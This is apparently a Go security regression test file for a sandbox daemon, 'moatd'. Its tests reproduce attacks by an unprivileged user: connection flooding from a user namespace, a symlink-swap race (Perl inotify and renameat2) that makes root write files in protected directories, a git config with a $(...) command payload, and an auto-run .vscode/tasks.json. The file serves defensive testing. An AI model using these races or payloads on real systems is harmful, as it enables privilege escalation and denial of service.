//go:build linux

package main

// Security review (second round) of moatd: attacks of one unprivileged
// user on the daemon and on the other users. Each test FAILS while the
// flaw it names is present, and shows the same action works where moat
// does not stand in the way (so it cannot pass vacuously).

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/moat-sandbox/moat/internal/testutil"
)

// daemonSockets counts the daemon's descriptors that are sockets.
func daemonSockets(pid int) int {
	n := 0
	es, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
	for _, e := range es {
		if l, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, e.Name())); err == nil && strings.HasPrefix(l, "socket:") {
			n++
		}
	}
	return n
}

// connHolder is a perl program (core modules only) that opens up to N
// connections to the socket, makes one request on each (so each is past
// the server's header timeout and held as keep-alive for its idle
// timeout), prints how many it holds, and keeps them for a minute. A
// request written to a connection the daemon already closed (over the cap)
// must not end it with SIGPIPE: on a loaded CI machine it did, silently.
const connHolder = `
use strict; use Socket; use IO::Handle;
$SIG{PIPE} = 'IGNORE'; # a connection the daemon closed at once (over the cap) must not kill the holder
my ($sock, $n) = @ARGV; my @s;
for my $i (1..$n) {
  socket(my $c, PF_UNIX, SOCK_STREAM, 0) or last;
  connect($c, pack_sockaddr_un($sock)) or last;
  $c->autoflush(1);
  print $c "GET /v1/health HTTP/1.1\r\nHost: moatd\r\n\r\n";
  push @s, $c;
}
my $served = 0;
for my $c (@s) { my $l = <$c>; $served++ if defined $l && $l =~ /^HTTP/; }
print scalar(@s), " ", $served, "\n"; STDOUT->flush;
sleep 60;
`

// holdConns runs connHolder as u (inside `unshare -U` when userns) and
// returns once it holds its connections; the returned func ends it.
func holdConns(t *testing.T, u *daemonUser, sock string, n int, userns bool) (string, func()) {
	t.Helper()
	argv := []string{"perl", "-e", connHolder, sock, strconv.Itoa(n)}
	if userns {
		argv = append([]string{"unshare", "-U"}, argv...)
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(u.uid), Gid: uint32(u.gid), Groups: []uint32{uint32(u.gid)}}}
	cmd.Env = []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/"}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var errb bytes.Buffer
	cmd.Stderr = &errb
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	line := make([]byte, 64)
	k, _ := out.Read(line)
	stop := func() {
		cmd.Process.Kill()
		cmd.Wait()
	}
	if k == 0 {
		stop()
		t.Fatalf("the connection holder said nothing: %s", errb.String())
	}
	return strings.TrimSpace(string(line[:k])), stop
}

// TestDaemonAttackConnCapBypassFromUserns: the per-user cap of 256
// connections (api.Daemon.MaxConnsPerUser) counts only connections whose
// peer passes checkDaemonPeer. A peer in another user namespace (any user
// can make one: unshare -U) fails that check, so its connections are
// never counted: each still gets a goroutine and a descriptor in the
// daemon, is answered (403) and kept alive for the 2-minute idle timeout.
// One user can hold as many as it has descriptors (RLIMIT_NOFILE, per
// process) and exhaust the daemon's own descriptor limit, after which
// every user's connection and run fails (accept: EMFILE).
func TestDaemonAttackConnCapBypassFromUserns(t *testing.T) {
	d, _, _, dir := daemonFixture(t)
	att := attackUser(t, dir)
	pid := d.cmd.Process.Pid
	const n, limit = 600, 256
	base := daemonSockets(pid)

	// Control: from the host's namespaces the cap holds.
	got, stop := holdConns(t, att, d.sock, n, false)
	time.Sleep(500 * time.Millisecond)
	host := daemonSockets(pid) - base
	stop()
	t.Logf("from the host's namespaces: holder says %q (opened, answered); the daemon holds %d of its connections", got, host)
	if host > limit+8 {
		t.Fatalf("the cap does not hold even from the host's namespaces (%d connections): the test cannot tell the bypass", host)
	}
	for deadline := time.Now().Add(10 * time.Second); daemonSockets(pid) > base+2 && time.Now().Before(deadline); {
		time.Sleep(100 * time.Millisecond)
	}

	// The same user, from a user namespace of its own.
	got, stop = holdConns(t, att, d.sock, n, true)
	defer stop()
	time.Sleep(12 * time.Second) // past the server's 10 s header timeout
	held := daemonSockets(pid) - base
	t.Logf("from unshare -U: holder says %q; 12 s later the daemon still holds %d of its connections", got, held)
	if held > limit+8 {
		t.Errorf("%s holds %d connections to the daemon from a user namespace of its own, over the per-user cap of %d: refused peers are never counted (countConn runs only when checkDaemonPeer succeeds), so one user can exhaust the daemon's descriptors", att.name, held, limit)
	}
}

// sharedDir makes a directory every test user can write (mode 0777, not
// sticky), like a group's shared project.
func sharedDir(t *testing.T, dir string) string {
	t.Helper()
	p := filepath.Join(dir, "shared")
	if err := os.Mkdir(p, 0o777); err != nil {
		t.Fatal(err)
	}
	os.Chmod(p, 0o777)
	return p
}

// TestDaemonAttackOtherUsersRunRemovesMountedPlaceholders: moatd keeps a
// placeholder journal per client uid. A placeholder another run mounts
// over is adopted (so its maker's clean-up leaves it) only when that run
// is in the same journal: a run of another user in the same directory
// (a shared project) sees the first run's placeholder as an existing
// .vscode, mounts it read-only, and when the first run ends its clean-up
// removes that directory, which detaches the second run's mount (the
// kernel lets a mount point in another namespace be removed). The second
// run's command can then create .vscode/tasks.json in its working
// directory, which the mandatory protections exist to stop (and which
// the post-run audit does not take out). With one journal for every user
// the placeholder was adopted.
func TestDaemonAttackOtherUsersRunRemovesMountedPlaceholders(t *testing.T) {
	d, u1, victim, dir := daemonFixture(t)
	shared := sharedDir(t, dir)
	gate := filepath.Join(dir, "go-"+strconv.FormatInt(time.Now().UnixNano(), 36))
	tasks := filepath.Join(shared, ".vscode", "tasks.json")
	// What the victim's sandboxed command does: wait for the go file, then
	// plant .vscode/tasks.json in its working directory.
	plant := fmt.Sprintf(`for i in $(seq 300); do [ -e %s ] && break; sleep 0.1; done; mkdir -p .vscode 2>&1; echo '{"tasks":[{"label":"x","command":"id","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json && echo PLANTED`, gate)

	// Control 1: alone, the victim's command cannot plant it.
	os.WriteFile(gate, nil, 0o644)
	cmd := moatRunAs(t, d, victim, shared, "", []string{"MOAT_DAEMON=required"}, "--write", ".", "--", "sh", "-c", plant)
	out, _ := cmd.CombinedOutput()
	if _, err := os.Lstat(tasks); err == nil || strings.Contains(string(out), "PLANTED") {
		t.Fatalf("the victim's run alone planted %s: the test cannot tell the attack: %s", tasks, out)
	}
	os.Remove(gate)
	// Control 2: without moat, the victim can write it.
	if _, stderr, err := victim.as("sh", "-c", fmt.Sprintf("mkdir -p %s/.vscode && echo {} > %s && rm -r %s/.vscode", shared, tasks, shared)); err != nil {
		t.Fatalf("the victim cannot write %s without moat: %v %s", tasks, err, stderr)
	}
	if _, err := os.Lstat(filepath.Join(shared, ".vscode")); err == nil {
		t.Fatalf("%s/.vscode is left from the controls", shared)
	}

	// Another user's run in the same directory makes its placeholders.
	other := moatRunAs(t, d, u1, shared, "", []string{"MOAT_DAEMON=required"}, "--write", ".", "--", "sleep", "4")
	var oout bytes.Buffer
	other.Stdout, other.Stderr = &oout, &oout
	if err := other.Start(); err != nil {
		t.Fatal(err)
	}
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if fi, err := os.Lstat(filepath.Join(shared, ".vscode")); err == nil && int(fi.Sys().(*syscall.Stat_t).Uid) == u1.uid {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s's run made no .vscode placeholder in %s: %s", u1.name, shared, oout.String())
		}
	}
	// The victim's run starts while it is there.
	vc := moatRunAs(t, d, victim, shared, "", []string{"MOAT_DAEMON=required"}, "--write", ".", "--", "sh", "-c", plant)
	var vout bytes.Buffer
	vc.Stdout, vc.Stderr = &vout, &vout
	if err := vc.Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(1500 * time.Millisecond) // its sandbox is up
	if err := other.Wait(); err != nil {
		t.Logf("%s's run: %v %s", u1.name, err, oout.String())
	}
	gone := false
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		if _, err := os.Lstat(filepath.Join(shared, ".vscode")); err != nil {
			gone = true
			break
		}
	}
	t.Logf("%s's run ended; its .vscode placeholder removed: %v", u1.name, gone)
	os.WriteFile(gate, nil, 0o644)
	defer os.Remove(gate)
	vc.Wait()
	defer os.RemoveAll(filepath.Join(shared, ".vscode"))
	if b, err := os.ReadFile(tasks); err == nil {
		t.Errorf("%s's sandboxed command planted %s (%q) after %s's run in the same directory ended: that run's clean-up removed the .vscode placeholder %s's sandbox had mounted read-only (journals are per uid: the placeholder was not adopted)\n%s", victim.name, tasks, b, u1.name, victim.name, vout.String())
	}
}

// auditRacer is the attacker's host-side program (perl, core modules
// only). It watches FILE with inotify; the audit opens a config it
// rewrites twice: once to read it, then once more to copy it to the
// quarantine. At that second open the racer swaps DIR (a directory of
// FILE's path) with LINK, a symlink to the target directory (renameat2
// RENAME_EXCHANGE): an audit that resolved the path again for the rewrite
// created NAME.moat-XXXX in the target and renamed it over TARGET/NAME,
// with the config's kept entries as content. Once root has read the config (the
// first close), the racer extends it to 32 MiB (sparse): the copy to the
// quarantine lasts long enough for the swap.
const auditRacer = `
use strict; use IO::Handle;
my ($file, $dir, $link) = @ARGV;
my $ifd = syscall(294, 0);                          # inotify_init1
die "inotify_init1: $!" if $ifd < 0;
die "inotify_add_watch: $!" if syscall(254, $ifd, $file, 0x30) < 0;  # IN_OPEN|IN_CLOSE_NOWRITE
open(my $ih, "<&=", $ifd) or die;
print "ready\n"; STDOUT->flush;
my ($opens, $grown) = (0, 0);
while ($opens < 2) {
  my $buf; my $n = sysread($ih, $buf, 4096); last unless $n;
  while (length($buf) >= 16) {
    my ($wd, $mask, $cookie, $len) = unpack("iIII", $buf);
    $buf = substr($buf, 16 + $len);
    $opens++ if $mask & 0x20;
    if ($mask & 0x10 && !$grown) { truncate($file, 32 << 20); $grown = 1; }  # read and parsed: the copy will take a while
  }
}
my $x = syscall(316, -100, $dir, -100, $link, 2);  # renameat2 RENAME_EXCHANGE
print "opens $opens, swapped: $x\n"; STDOUT->flush;
`

// riskyConfig is a git config the audit rewrites (core.fsmonitor is taken
// out), whose kept entry is a shell payload: sourced by a shell (a
// profile.d script, a .bashrc), the $(...) runs.
const riskyConfig = `for i in $(seq 11000); do echo "# xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"; done; printf '[core]\n\tfsmonitor = x\n[user]\n\tname = $(id > /tmp/pwned-by-moat-audit)\n'`

// TestDaemonAttackAuditRaceWritesAsRoot: moatd runs the git audit
// (runtime/gitguard) as root over the client's writable trees once its
// command has ended. The sandbox is gone by then, but the client itself
// is not: it can change its own tree while root works in it. The audit
// checks a file's directory once (actionable: EvalSymlinks) and later
// opens, creates and renames files by path (copyTo, replaceFile,
// moveOut), following whatever symlink is there by then. Swapping a
// directory of the path for a symlink in between makes root create, with
// content the client chose, a file in a directory the client cannot
// write: TARGET/config (a repository made during the run), or any name
// (a file an include.path of an older repository the plan did not search,
// one under node_modules, names: /etc/profile.d/x.sh, ~root/.bashrc).
// moveOut (a hook, an unparsable config) renames by path too: the same
// swap moves any file of the host (/etc/shadow) into the quarantine.
func TestDaemonAttackAuditRaceWritesAsRoot(t *testing.T) {
	d, _, _, dir := daemonFixture(t)
	att := attackUser(t, dir)
	asAtt := func(script string) {
		t.Helper()
		if _, stderr, err := att.as("sh", "-c", script); err != nil {
			t.Fatalf("as %s: %s: %v %s", att.name, script, err, stderr)
		}
	}
	for _, tc := range []struct {
		name    string
		pre     string // made before the run (older than it)
		during  string // made during the run
		watch   string // the file root rewrites
		swap    string // the directory swapped for a symlink
		planted string // what root creates in the target
	}{
		{name: "new-repository", during: "mkdir -p r/.git/hooks && (" + riskyConfig + ") > r/.git/config",
			watch: "r/.git/config", swap: "r/.git", planted: "config"},
		{name: "include-any-name", pre: "mkdir -p node_modules/m/.git/inc && printf '[include]\n\tpath = inc/evil.sh\n' > node_modules/m/.git/config",
			during: "(" + riskyConfig + ") > node_modules/m/.git/inc/evil.sh",
			watch:  "node_modules/m/.git/inc/evil.sh", swap: "node_modules/m/.git/inc", planted: "evil.sh"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			target := filepath.Join(dir, "root-only-"+tc.name)
			if err := os.Mkdir(target, 0o755); err != nil {
				t.Fatal(err)
			}
			planted := filepath.Join(target, tc.planted)
			// Control: the attacker cannot write there itself.
			if _, _, err := att.as("sh", "-c", "echo x > "+planted); err == nil {
				t.Fatalf("%s can write %s without moat: the test proves nothing", att.name, planted)
			}
			os.Remove(planted)
			if tc.pre != "" {
				asAtt("cd " + att.dir + " && " + tc.pre)
				time.Sleep(2100 * time.Millisecond) // older than the run
			}
			// A run through moatd that writes a file (so that the audit runs).
			cli := moatRunAs(t, d, att, att.dir, "", []string{"MOAT_DAEMON=required"}, "--write", ".", "--", "sh", "-c", "touch wrote; sleep 3")
			var cout bytes.Buffer
			cli.Stdout, cli.Stderr = &cout, &cout
			if err := cli.Start(); err != nil {
				t.Fatal(err)
			}
			time.Sleep(1500 * time.Millisecond) // after the run's start: "changed during the run"
			link := filepath.Join(att.dir, tc.swap+"-link")
			asAtt("cd " + att.dir + " && " + tc.during + " && ln -s " + target + " " + link)
			racer := exec.Command("perl", "-e", auditRacer, filepath.Join(att.dir, tc.watch), filepath.Join(att.dir, tc.swap), link)
			racer.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(att.uid), Gid: uint32(att.gid), Groups: []uint32{uint32(att.gid)}}}
			var rout bytes.Buffer
			racer.Stdout, racer.Stderr = &rout, &rout
			if err := racer.Start(); err != nil {
				t.Fatal(err)
			}
			rdone := make(chan struct{})
			go func() { racer.Wait(); close(rdone) }()
			cli.Wait()
			select {
			case <-rdone:
			case <-time.After(10 * time.Second):
				racer.Process.Kill()
				<-rdone
			}
			t.Logf("run: %s\nracer: %s", cout.String(), rout.String())
			es, _ := os.ReadDir(target)
			var made []string
			for _, e := range es {
				made = append(made, e.Name())
			}
			if len(made) > 0 {
				b, _ := os.ReadFile(planted)
				owner := -1
				if fi, err := os.Lstat(planted); err == nil {
					owner = int(fi.Sys().(*syscall.Stat_t).Uid)
				}
				t.Errorf("%s made moatd's git audit (root) create %v in %s, a directory it cannot write: %s is owned by uid %d and holds %q", att.name, made, target, planted, owner, b)
			}
		})
	}
}

// TestAuditRaceOtherUserSteersRootsRun: root runs a command with a
// writable tree that another user can write in too (here a directory of
// that user's inside it; --write / is the wide case, and a group's shared
// project the common one). The run's git audit, root's, judges what
// changed in the tree during the run, the other user's files too: the
// user plants a risky git config and, while root copies it to the
// quarantine, swaps the repository's .git for a symlink to a directory
// only root can write, inside the same tree. The audit resolved the path
// anew for the rewrite and wrote the config's kept entries there, as root
// (what CI saw once in TestDaemonAttackAuditRaceWritesAsRoot: another
// package's root run with --write / audited that test's tree). Now the
// audit acts in the directory it judged the file in, through one
// descriptor, and the rewritten config stays the user's.
func TestAuditRaceOtherUserSteersRootsRun(t *testing.T) {
	testutil.RequireRoot(t)
	tr := newTree(t)
	att := attackUser(t, tr.dir)
	target := filepath.Join(tr.dir, "root-only")
	if err := os.Mkdir(target, 0o755); err != nil {
		t.Fatal(err)
	}
	if _, _, err := att.as("sh", "-c", "echo x > "+target+"/config"); err == nil {
		t.Fatalf("%s can write %s without moat: the test proves nothing", att.name, target)
	}
	cmd := exec.Command(moatBin(t), "run", "--settings", tr.settings, "--", "sh", "-c", "touch wrote; sleep 3")
	cmd.Dir, cmd.Env = tr.dir, tr.env()
	var cout bytes.Buffer
	cmd.Stdout, cmd.Stderr = &cout, &cout
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(1500 * time.Millisecond) // changed during the run
	if _, errOut, err := att.as("sh", "-c", "cd "+att.dir+" && mkdir -p r/.git/hooks && ("+riskyConfig+") > r/.git/config && ln -s "+target+" r/.git-link"); err != nil {
		t.Fatalf("as %s: %v %s", att.name, err, errOut)
	}
	racer := exec.Command("perl", "-e", auditRacer, filepath.Join(att.dir, "r/.git/config"), filepath.Join(att.dir, "r/.git"), filepath.Join(att.dir, "r/.git-link"))
	racer.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(att.uid), Gid: uint32(att.gid), Groups: []uint32{uint32(att.gid)}}}
	var rout bytes.Buffer
	racer.Stdout, racer.Stderr = &rout, &rout
	if err := racer.Start(); err != nil {
		t.Fatal(err)
	}
	rdone := make(chan struct{})
	go func() { racer.Wait(); close(rdone) }()
	cmd.Wait()
	select {
	case <-rdone:
	case <-time.After(10 * time.Second):
		racer.Process.Kill()
		<-rdone
	}
	t.Logf("run: %s\nracer: %s", cout.String(), rout.String())
	if es, _ := os.ReadDir(target); len(es) > 0 {
		b, _ := os.ReadFile(filepath.Join(target, es[0].Name()))
		t.Fatalf("ESCAPE: %s made root's git audit write %s in %s, a directory only root can write: %q", att.name, es[0].Name(), target, b)
	}
	if !strings.Contains(rout.String(), "swapped: 0") {
		t.Fatalf("the racer never swapped the directory (the audit did not read the config twice?): the test proved nothing\n%s", cout.String())
	}
	// The config was rewritten in the user's own directory (now at the
	// link's name), and is still the user's.
	fi, err := os.Lstat(filepath.Join(att.dir, "r/.git-link/config"))
	if err != nil {
		t.Fatal(err)
	}
	if uid := int(fi.Sys().(*syscall.Stat_t).Uid); uid != att.uid {
		t.Errorf("root's audit rewrote %s's config and made it uid %d's", att.name, uid)
	}
	if b, _ := os.ReadFile(filepath.Join(att.dir, "r/.git-link/config")); strings.Contains(string(b), "fsmonitor") {
		t.Errorf("the planted config was not rewritten: %q", b)
	}
}

// Peers the daemon refuses hold nothing: uids no user has (the subordinate
// ids a user's own user namespace maps, each a uid of the kernel's) were
// counted one by one, each up to the per-user cap, and seventeen of them
// filled the daemon's 4096 connections: every user got 429 (found by an
// attack pass). Now a refused peer is answered 403 and closed at once.
func TestDaemonUnknownUidsCannotFillIt(t *testing.T) {
	d, u1, _, _ := daemonFixture(t)
	var stops []func()
	defer func() {
		for _, s := range stops {
			s()
		}
	}()
	for k := 0; k < 17; k++ {
		ghost := &daemonUser{name: "ghost", uid: 951000 + k, gid: u1.gid}
		_, stop := holdConns(t, ghost, d.sock, 256, false)
		stops = append(stops, stop)
	}
	time.Sleep(500 * time.Millisecond)
	if code, body := u1.call(t, d.sock, "GET", "/v1/health", ""); code != 200 {
		t.Fatalf("a user is locked out while unknown uids hold connections: %d %s", code, body)
	}
}

// moatd reads the client's git configuration as the client: root read a
// config the client cannot read (an include of a root-only file), and its
// core.hooksPath came out as a placeholder in the client's tree and a
// mount in the client's sandbox (found by an attack pass). The same
// include is read by the client's own git as nothing ("unable to access").
func TestDaemonReadsGitConfigAsClient(t *testing.T) {
	d, u1, _, dir := daemonFixture(t)
	secret := filepath.Join(dir, "rootonly")
	if err := os.Mkdir(secret, 0o700); err != nil {
		t.Fatal(err)
	}
	const leaked = "root-only-secret-name-42"
	if err := os.WriteFile(filepath.Join(secret, "cfg"), []byte("[core]\n\thooksPath = "+leaked+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	repo := filepath.Join(u1.dir, "proj")
	if _, errOut, err := u1.as("sh", "-c", "git init -q "+repo+" && printf '[include]\\n\\tpath = "+filepath.Join(secret, "cfg")+"\\n' >> "+repo+"/.git/config"); err != nil {
		t.Fatalf("git init: %v %s", err, errOut)
	}
	sid := u1.openSession(t, d, fmt.Sprintf(`{"cwd":%q,"write":[%q]}`, repo, repo))
	code, out := u1.run(t, d, sid, "ls -a; grep -c "+leaked+" /proc/self/mountinfo || true")
	if code != 200 {
		t.Fatalf("run: %d %s", code, out)
	}
	lines := strings.Fields(out)
	if strings.Contains(out, leaked) || len(lines) == 0 || lines[len(lines)-1] != "0" {
		t.Fatalf("ESCAPE: a value of a config the client cannot read reached its sandbox:\n%s", out)
	}
	if _, err := os.Lstat(filepath.Join(repo, leaked)); err == nil {
		t.Fatalf("ESCAPE: a placeholder named after a root-only value is in the client's tree")
	}
}
